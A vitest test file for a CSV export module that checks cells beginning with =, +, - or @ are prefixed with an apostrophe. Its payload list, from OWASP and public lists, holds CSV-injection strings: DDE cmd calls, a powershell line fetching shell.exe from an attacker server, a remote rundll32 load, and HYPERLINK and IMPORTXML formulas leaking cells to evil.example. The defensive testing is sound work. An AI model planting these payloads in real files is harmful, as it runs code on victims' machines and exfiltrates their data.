import { describe, expect, it } from 'vitest';
import { csvCell, isFormulaLike, toCsv } from '../../../shared/csv';
import { parseRecords } from '../../../shared/import';
import { annexToCsv } from '../../../shared/export/annex';
import { quarantineCsv } from '../../../renderer/features/import/mappingEdit';

/**
 * The OWASP "CSV Injection" payloads (owasp.org/www-community/attacks/CSV_Injection)
 * and the usual variants from public payload lists, plus the ones issue 10
 * found getting through the old annex guard.
 */
const PAYLOADS = [
  '=1+1',
  '=cmd|\' /C calc\'!A0',
  '=cmd|\' /C notepad\'!\'A1\'',
  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  "=10+20+cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '@SUM(1+1)',
  "-2+3+cmd|' /C calc'!A0",
  '-1+HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '=HYPERLINK("http://evil.example/?x="&A1&A2,"Error: please click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '=IMAGE("http://evil.example/x.png")',
  '=WEBSERVICE("http://evil.example/")',
  "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '   =1+1',
  '\u3000=1+1',
  '＝1+1',
  '＋cmd|\'/C calc\'!A0',
  '"=1+1"',
  'a,=1+1',
  'a;=1+1',
];

describe('the shared CSV writer', () => {
  for (const delimiter of [',', ';'] as const) {
    it(`neutralises every OWASP payload with '${delimiter}' as the separator: the cell reads back as text starting with an apostrophe`, () => {
      const csv = toCsv(['value', 'amount'], PAYLOADS.map((payload) => [payload, -12.5]), { delimiter });
      const rows = parseRecords(csv, delimiter, '\n');
      expect(rows).toHaveLength(PAYLOADS.length + 1);
      PAYLOADS.forEach((payload, index) => {
        const [cell, amount] = rows[index + 1] as [string, string];
        // The CRLF line ending leaves a '\r' the chunker strips; the cell itself is intact.
        const expected = isFormulaLike(payload) ? `'${payload}` : payload;
        expect(cell, JSON.stringify(payload)).toBe(expected);
        expect(/^[=+\-@\t\r]/.test(cell), JSON.stringify(payload)).toBe(false);
        // Numbers stay numbers in their own column.
        expect(amount).toBe('-12.5');
      });
    });
  }

  it('leaves ordinary text and numbers alone, and quotes only what needs it', () => {
    expect(csvCell('José Muñoz')).toBe('José Muñoz');
    expect(csvCell('Smith, John')).toBe('"Smith, John"');
    expect(csvCell('Smith, John', ';')).toBe('Smith, John');
    expect(csvCell('dice "hola"')).toBe('"dice ""hola"""');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell('-3')).toBe(`"'-3"`);
    expect(csvCell(undefined)).toBe('');
  });

  it('guards the quarantine export, the annex and the CLI alike (no export keeps its own writer)', () => {
    const quarantine = quarantineCsv(
      [{ file: 'x.csv', line: 2, column: 'Monto', field: 'amount', value: "-2+3+cmd|' /C calc'!A0", reason: 'r', code: 'invalid-number' }],
      ['file', 'line', 'column', 'field', 'value', 'reason', 'code'],
    );
    expect(quarantine).toContain(`;"'-2+3+cmd|' /C calc'!A0";`);
    expect(quarantine).toContain('x.csv;2;Monto');
    const annex = annexToCsv([
      {
        edge: 'A->B',
        from: 'A',
        to: 'B',
        transactionId: '-1+HYPERLINK("http://evil","x")',
        timestamp: 0,
        fromAccount: '\t=1+1',
        toAccount: 'B',
        amount: -5,
        currency: 'USD',
        channel: '@SUM(1)',
        sourceFile: 'f.csv',
        sourceSha256: 'a'.repeat(64),
        sourceLine: 3,
      },
    ]);
    expect(annex).toContain(`"'-1+HYPERLINK(""http://evil"",""x"")"`);
    expect(annex).toContain(`"'\t=1+1"`);
    expect(annex).toContain(`,-5,USD,"'@SUM(1)",f.csv,`);
    expect(annex.endsWith(',3,\r\n')).toBe(true); // issue 15: empty source_grade column last
  });
});
